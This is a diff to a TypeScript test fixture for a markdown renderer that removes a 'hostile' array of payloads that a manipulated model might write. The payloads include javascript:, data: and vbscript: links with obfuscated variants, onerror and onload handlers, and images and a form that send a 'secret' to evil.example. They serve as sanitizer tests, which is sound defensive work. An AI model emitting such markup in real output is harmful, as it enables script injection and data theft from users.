@@ -20,38 +20,3 @@ export const corpus: Readonly<Record<string, string>> = {
   answer:
     "The **404s** come from few pages:\n\n| page | hits |\n|:-----|-----:|\n| `/a` | 12 |\n| `/b` | 7 |\n\n### Next\n\n1. Block `/a`\n2. Add `/b`:\n   - now\n   - later\n\n```ppl\nsource=log | where status = 404\n```\n\n> Range ends at 11:00.\n\nSee [docs](https://docs.example.com) for more.",
 };
-
-/** What a hostile model, or a page that talked it into it, would write. */
-export const hostile: readonly string[] = [
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt:alert(1))",
-  "[x](java\tscript:alert(1))",
-  "[x](java&#10;script:alert(1))",
-  "[x](&#106;avascript:alert(1))",
-  "[x](javascript&colon;alert(1))",
-  "[x](\u0001javascript:alert(1))",
-  "[x](vbscript:msgbox(1))",
-  "[x](data:text/html,<script>alert(1)</script>)",
-  "[x](blob:https://a.example/1)",
-  "[x](file:///etc/passwd)",
-  "<javascript:alert(1)>",
-  "<data:text/html,x>",
-  "![x](javascript:alert(1))",
-  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-  "![x](https://evil.example/p.png?q=secret)",
-  "[![x](https://evil.example/p.png)](javascript:alert(1))",
-  "<img src=x onerror=alert(1)>",
-  "<svg/onload=alert(1)>",
-  '<a href="javascript:alert(1)">x</a>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  "<style>*{display:none}</style>",
-  "<form action=https://evil.example><input name=q></form>",
-  "**<img src=x onerror=alert(1)>**",
-  "- > | <img src=x onerror=alert(1)> | b |",
-  "| [a](javascript:x) | ![b](https://evil.example/b.png) |\n|--|--|\n| <b onclick=x> | [c](data:x) |",
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  "`<img src=x onerror=alert(1)>`",
-  "[a]: javascript:alert(1)\n\n[a] and [x][a] and ![y][a]",
-  '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
-  "[__proto__]: https://a.example\n\n[constructor] [toString] [__proto__] [hasOwnProperty]",
-];
